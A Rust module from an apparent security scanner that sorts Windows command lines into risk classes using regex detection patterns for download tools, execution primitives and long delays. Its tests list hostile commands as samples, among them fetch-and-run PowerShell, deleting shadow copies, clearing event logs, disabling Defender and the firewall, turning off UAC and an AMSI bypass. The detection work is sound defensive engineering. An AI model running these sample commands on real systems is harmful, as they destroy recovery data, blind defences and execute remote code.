//! The classes that a peeled command or script belongs to.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use regex::{Regex, RegexSet, RegexSetBuilder};

use super::Peeled;
use super::hosts::hosts;
use crate::risk::class::{Severity, class, rows};
use crate::risk::report::RiskFinding;

const TABLE: &str = include_str!("../data/commands.tsv");
/// How many bytes the compiled table may have; it has about 8 MB.
const MAX_TABLE: usize = 64 << 20;

struct Row {
    class: &'static str,
    severity: Option<Severity>,
    attack: Option<&'static str>,
    pattern: Regex,
}

static ROWS: LazyLock<Vec<Row>> = LazyLock::new(|| {
    rows(TABLE)
        .map(|row| match row.as_slice() {
            [name, severity, attack, pattern] => Row {
                class: class(name).name,
                severity: Severity::of_word(severity),
                attack: (*attack != "-").then_some(*attack),
                pattern: regex(pattern),
            },
            _ => panic!("a row of the commands has four columns: {row:?}"),
        })
        .collect()
});

/// All patterns of the table, to find in one pass those that fit.
static ANY: LazyLock<RegexSet> = LazyLock::new(|| {
    let patterns = rows(TABLE).filter_map(|row| row.last().copied());
    RegexSetBuilder::new(patterns)
        .size_limit(MAX_TABLE)
        .dfa_size_limit(MAX_TABLE)
        .build()
        .expect("the patterns are sound")
});

fn regex(pattern: &str) -> Regex {
    Regex::new(pattern).unwrap_or_else(|error| panic!("{error}"))
}

/// What a command or script does.
#[derive(Debug, Default)]
pub(in crate::risk) struct Reading {
    /// The findings; the caller sets their place.
    pub(in crate::risk) findings: Vec<RiskFinding>,
    /// The computers that it names.
    pub(in crate::risk) hosts: BTreeSet<String>,
}

/// Reads all layers.
pub(in crate::risk) fn read(peeled: &Peeled, subject: &str) -> Reading {
    let mut reading = Reading::default();
    let mut worst: BTreeMap<&str, RiskFinding> = BTreeMap::new();
    let layers: Vec<(&str, String)> =
        peeled.layers.iter().map(|layer| (layer.layer.as_str(), plain(&layer.text))).collect();
    for (layer, text) in &layers {
        for index in ANY.matches(text) {
            let Some(row) = ROWS.get(index) else { continue };
            let found = row.pattern.find(text).map_or("", |found| line_of(text, found.start()));
            let own = RiskFinding::new(row.class, subject).shows_layer(layer, found);
            let own = RiskFinding {
                severity: row.severity.unwrap_or(own.severity),
                attack: row.attack.unwrap_or(own.attack),
                ..own
            };
            match worst.get(row.class) {
                Some(known) if known.severity >= own.severity => {}
                _ => drop(worst.insert(row.class, own)),
            }
        }
        reading.hosts.extend(hosts(text));
    }
    network(&layers, subject, &mut worst);
    if layers.iter().any(|(_, text)| waits_long(text)) {
        worst.entry("delays").or_insert_with(|| RiskFinding::new("delays", subject).shows("it waits for minutes"));
    }
    if peeled.holds_program {
        worst.entry("embedded-executable").or_insert_with(|| RiskFinding::new("embedded-executable", subject));
    }
    if let Some(switch) = &peeled.encoded {
        worst.insert("encoded-command", RiskFinding::new("encoded-command", subject).shows(switch));
    }
    let stream = layers.iter().find_map(|(_, text)| STREAM.find(text));
    let stream = stream.map(|found| found.as_str().to_owned());
    if !peeled.obfuscated.is_empty() || stream.is_some() {
        let mut found = RiskFinding::new("obfuscated-command", subject);
        for reason in &peeled.obfuscated {
            found = found.shows_layer("why", reason);
        }
        if let Some(stream) = stream {
            found = found.attack("T1564.004").shows(stream);
        }
        for layer in &peeled.layers {
            found = found.shows_layer(&layer.layer, &layer.text);
        }
        worst.insert("obfuscated-command", found);
    }
    reading.findings.extend(worst.into_values());
    if !reading.hosts.is_empty() {
        let all: Vec<&str> = reading.hosts.iter().map(String::as_str).collect();
        reading.findings.push(RiskFinding::new("contacts-host", subject).shows(all.join(", ")));
    }
    reading
}

/// The text for comparisons: in lower case, with plain hyphens and without doubled blanks.
fn plain(text: &str) -> String {
    text.to_lowercase().replace(['\u{2013}', '\u{2014}', '\u{2015}'], "-").replace('\t', " ")
}

fn line_of(text: &str, at: usize) -> &str {
    let start = text.get(..at).and_then(|before| before.rfind('\n')).map_or(0, |end| end + 1);
    text.get(start..).and_then(|rest| rest.lines().next()).unwrap_or_default().trim()
}

static FETCHES: LazyLock<Regex> = LazyLock::new(|| {
    regex(concat!(
        r"\b(?:invoke-webrequest|iwr|invoke-restmethod|irm|wget|curl|start-bitstransfer|bitsadmin|downloadstring|downloadfile",
        r"|downloaddata|webclient|httpclient|xmlhttp|serverxmlhttp|winhttprequest|urldownloadtofile|tftp|certoc|desktopimgdownldr",
        r"|webrequest\]::create|httpwebrequest|internet-?explorer\.application)\b",
        r"|\bcertutil(?:\.exe)?\b[^\n]*[-/](?:urlcache|verifyctl|ping|url)\b|\bftp(?:\.exe)?\s+-|\bmpcmdrun(?:\.exe)?\b[^\n]*-downloadfile",
        r"|\besentutl(?:\.exe)?\b[^\n]*/y\s+\\\\|\bfinger(?:\.exe)?\s+\S*@|\bscp(?:\.exe)?\s|\bgit\s+clone\s"
    ))
});
static RUNS: LazyLock<Regex> = LazyLock::new(|| {
    regex(concat!(
        r"\b(?:iex|invoke-expression|invoke-command|icm|start-process|saps|invoke-item|invokescript|invokecommand)\b",
        r"|scriptblock\]::create|assembly\]::load|\|\s*(?:powershell|pwsh|cmd|sh|bash|python)\b|shellexecute|wscript\.shell",
        r"|\.run\s*\(|\.exec\s*\(|shell\.application|activexobject|\bmsiexec\b|\brundll32\b|\bregsvr32\b|win32_process|invoke-wmimethod",
        r"|\bstart\s+(?:/\w+\s+)*\S+\.(?:exe|cmd|bat|msi|ps1|vbs|js)\b|powershell[^\n]*-f(?:ile)?\s+\S+\.ps1[^\n]*$"
    ))
});
static WRITTEN: LazyLock<[Regex; 4]> = LazyLock::new(|| {
    [
        r#"(?:^|\s)(?:-o|-outfile|--output|-destination|-out|-outf\w*|-dest\w*)[\s=]+["']?([^\s"';&|]+)"#,
        r#"(?:downloadfile|savetofile|urldownloadtofile)\s*\(?\s*[^,\n]*?,?\s*["']([^"'\n]+?\.[a-z0-9]{2,4})["']"#,
        r#"(?:https?|ftp)://[^\s"']+["']?,?\s+["']?([^\s"';&|]+\.[a-z0-9]{2,4})\b"#,
        r#"(?:https?|ftp)://[^\s"'?]+/([^\s"'/?&|;)]+\.[a-z0-9]{2,4})\b"#,
    ]
    .map(regex)
});
/// A stream of a file: `picture.png:run.ps1`.
static STREAM: LazyLock<Regex> = LazyLock::new(|| regex(r"\b[\w-]+\.[a-z]{2,4}:[\w-]+\.[a-z][a-z0-9]{1,3}\b"));

/// What is fetched, and whether it is run.
fn network(layers: &[(&str, String)], subject: &str, worst: &mut BTreeMap<&str, RiskFinding>) {
    let Some((layer, text)) = layers.iter().find(|(_, text)| FETCHES.is_match(text)) else { return };
    let line = FETCHES.find(text).map_or("", |found| line_of(text, found.start()));
    let is_run =
        layers.iter().any(|(_, text)| RUNS.is_match(text)) || layers.iter().any(|(_, text)| runs_a_fetched_file(text));
    let found = |class| {
        layers.iter().fold(RiskFinding::new(class, subject).shows_layer(layer, line), |found, (layer, text)| {
            found.shows_layer(layer, text)
        })
    };
    if worst.contains_key("sends-data") && !is_run {
        return;
    }
    match is_run {
        true => drop(worst.insert("download-and-run", found("download-and-run"))),
        false => drop(worst.insert("downloads", found("downloads"))),
    }
}

/// Whether a file that is written by the download is named again.
fn runs_a_fetched_file(text: &str) -> bool {
    WRITTEN.iter().flat_map(|pattern| pattern.captures_iter(text)).take(100).any(|found| {
        let path = found.get(1).map_or("", |path| path.as_str());
        let end = found.get(1).map_or(0, |path| path.end());
        let name = path.rsplit(['\\', '/']).next().unwrap_or_default();
        let is_run = |name: &str| text.get(end..).unwrap_or_default().contains(name);
        name.len() > 2 && !name.starts_with('$') && is_run(name) && is_program(name)
            || path.starts_with('$')
                && [format!("& {path}"), format!("&{path}"), format!(". {path}")].iter().any(|call| is_run(call))
    })
}

fn is_program(name: &str) -> bool {
    const PROGRAMS: [&str; 17] = [
        "exe", "cmd", "bat", "ps1", "vbs", "js", "msi", "dll", "com", "scr", "hta", "wsf", "jse", "vbe", "cpl", "lnk",
        "reg",
    ];
    name.rsplit('.').next().is_some_and(|extension| PROGRAMS.contains(&extension))
}

static WAITS: LazyLock<Vec<(Regex, u64)>> = LazyLock::new(|| {
    [
        (r"\btimeout(?:\.exe)?\s+(?:/t\s+)?(\d{1,9})\b", 120),
        (r"\bping(?:\.exe)?\s+[^\n&|]*-n\s+(\d{1,9})\b", 60),
        (r"\bstart-sleep\s+(?:-s\w*\s+)?(\d{1,9})\b", 120),
        (r"\bstart-sleep\s+-m\w*\s+(\d{1,9})\b", 120_000),
        (r"\b(?:wscript\.sleep|\]::sleep)\s*\(?\s*(\d{1,9})\b", 120_000),
        (r"\bchoice(?:\.exe)?\s+[^\n&|]*/t\s+(\d{1,9})\b", 120),
    ]
    .map(|(pattern, least)| (regex(pattern), least))
    .into()
});

fn waits_long(text: &str) -> bool {
    WAITS.iter().any(|(pattern, least)| {
        pattern.captures_iter(text).any(|found| found[1].parse::<u64>().is_ok_and(|number| number >= *least))
    })
}

#[cfg(test)]
mod tests {
    use super::read;
    use crate::risk::command::peel;

    fn classes(line: &str) -> Vec<String> {
        let reading = read(&peel(line), "x");
        reading.findings.iter().map(|found| format!("{} {}", found.class.name, found.severity)).collect()
    }

    #[test]
    fn the_patterns_are_sound() {
        assert!(classes("ver").is_empty());
    }

    #[test]
    fn commands_of_attacks_are_known() {
        for (line, expected) in [
            ("bitsadmin /transfer j http://a.example/p.exe C:\\p.exe & start C:\\p.exe", "download-and-run high"),
            ("powershell irm https://a.example/i.ps1 | iex", "download-and-run high"),
            ("curl -o notes.pdf https://a.example/notes.pdf", "downloads medium"),
            ("vssadmin.exe Delete Shadows /All /Quiet", "destroys-recovery high"),
            ("for /f %x in ('wevtutil el') do wevtutil cl %x", "clears-logs high"),
            ("bcdedit /set testsigning on", "boot-integrity high"),
            ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", "weakens-antivirus high"),
            ("netsh advfirewall set allprofiles state off", "weakens-firewall high"),
            ("schtasks /create /tn a /tr C:\\Users\\Public\\a.exe /sc onlogon", "persistence high"),
            ("schtasks /create /tn a /tr \"C:\\Program Files\\A\\a.exe\" /sc daily", "persistence medium"),
            ("winget install --id A.B", "installs-from-repository medium"),
            ("msiexec /i app.msi /qn", "installs-app medium"),
            ("msiexec /qn /i https://a.example/app.msi", "installs-from-url high"),
            ("pnputil /add-driver d.inf /install", "installs-driver medium"),
            ("net user x Passw0rd! /add", "adds-user low"),
            ("net localgroup Administrators x /add", "adds-admin medium"),
            ("Start-Sleep -Seconds 900", "delays low"),
            (
                "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /d 0 /f",
                "weakens-uac high",
            ),
            ("certutil -addstore -f Root a.cer", "adds-root-certificate medium"),
            ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "scan-evasion high"),
        ] {
            assert!(classes(line).contains(&expected.to_owned()), "{line}: {:?}", classes(line));
        }
    }

    #[test]
    fn work_of_administrators_is_not_high() {
        for line in [
            "cmd /c xcopy /y files C:\\Contoso && shutdown /r /t 10",
            "powershell -NoProfile -ExecutionPolicy Bypass -File .\\setup.ps1",
            "dism /online /enable-feature /featurename:NetFx3 /all /source:C:\\sxs",
            "reg add HKLM\\Software\\Contoso /v Site /d Berlin /f",
            "tzutil /s \"W. Europe Standard Time\"",
            "powercfg /change standby-timeout-ac 0",
            "icacls C:\\Contoso /grant Users:(OI)(CI)RX",
            "rundll32.exe printui.dll,PrintUIEntry /in /n \\\\print\\floor2",
            "msiexec /i setup.msi TRANSFORMS=a.mst /qn /l*v C:\\log.txt",
            "robocopy \\\\server\\share C:\\data /e",
        ] {
            assert!(!classes(line).iter().any(|class| class.ends_with("high")), "{line}: {:?}", classes(line));
        }
    }
}
